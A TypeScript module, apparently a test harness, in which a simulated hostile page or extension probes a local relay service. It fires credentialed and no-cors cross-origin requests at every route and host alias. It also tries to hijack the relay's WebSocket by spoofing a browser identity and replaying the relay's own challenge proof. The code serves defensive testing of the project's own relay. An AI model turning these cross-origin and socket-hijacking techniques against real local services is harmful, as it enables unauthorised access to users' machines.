/** Requests and sockets with which a hostile page or extension attacks the relay. */

export interface Attack {
  /** `host:port` of each name that may mean the relay. */
  hosts: readonly string[];
  /** Method and path. */
  routes: readonly (readonly [method: string, path: string])[];
  /** Shown with every call. */
  key: string;
  /** Whom it claims to be at the socket. */
  browserId: string;
}

export interface Spoils {
  /** Calls that were sent. */
  calls: number;
  /** Sockets that were tried, were opened, and were taken for those of a browser. */
  sockets: { tried: number; opened: number; welcomed: number };
}

/** Tries every route at every host, and the socket. It runs in the browser and can use nothing of this file. */
export async function attackRelay({ hosts, routes, key, browserId }: Attack): Promise<Spoils> {
  const patience = () => AbortSignal.timeout(5_000);
  let calls = 0;

  async function call(url: string, init: RequestInit): Promise<void> {
    calls += 1;
    // Most cannot be read; whether one was let in is for the relay to say.
    await fetch(url, { ...init, credentials: 'include', signal: patience() }).catch(() => undefined);
  }

  async function callAll(host: string): Promise<void> {
    for (const [method, path] of routes) {
      const url = `http://${host}${path}`;
      const body = method === 'POST' || method === 'PUT' ? '{"url":"http://127.0.0.1/"}' : undefined;
      const headers = { authorization: `Bearer ${key}` };
      await call(url, { method, body, headers: { ...headers, 'content-type': 'application/json' } });
      // Without asking first, as a form would.
      if (method === 'GET' || method === 'POST') await call(url, { method, body, mode: 'no-cors' });
    }
  }

  const sockets = { tried: 0, opened: 0, welcomed: 0 };

  /** A secure page may not even try a host that is not this machine by name. */
  function open(url: string): WebSocket | undefined {
    try {
      return new WebSocket(url);
    } catch {
      return undefined;
    }
  }

  function trySocket(host: string): Promise<void> {
    return new Promise((resolve) => {
      sockets.tried += 1;
      const socket = open(`ws://${host}/extension`);
      if (!socket) return resolve();
      const say = (frame: unknown) => socket.send(JSON.stringify(frame));
      socket.onopen = () => {
        sockets.opened += 1;
        say({ type: 'hello', protocol: 4, browserId, nonce: 'A'.repeat(43), purpose: 'resume' });
      };
      socket.onmessage = ({ data }) => {
        const { type, proof } = JSON.parse(data);
        if (type === 'welcome') sockets.welcomed += 1;
        // The relay's own proof, sent back.
        const about = { browserName: 'Hostile', buildId: '', journalId: '' };
        if (type === 'challenge') say({ type: 'introduction', proof, ...about });
      };
      socket.onclose = () => resolve();
      setTimeout(() => socket.close(), 5_000);
    });
  }

  await Promise.all(hosts.flatMap((host) => [callAll(host), trySocket(host)]));
  return { calls, sockets };
}
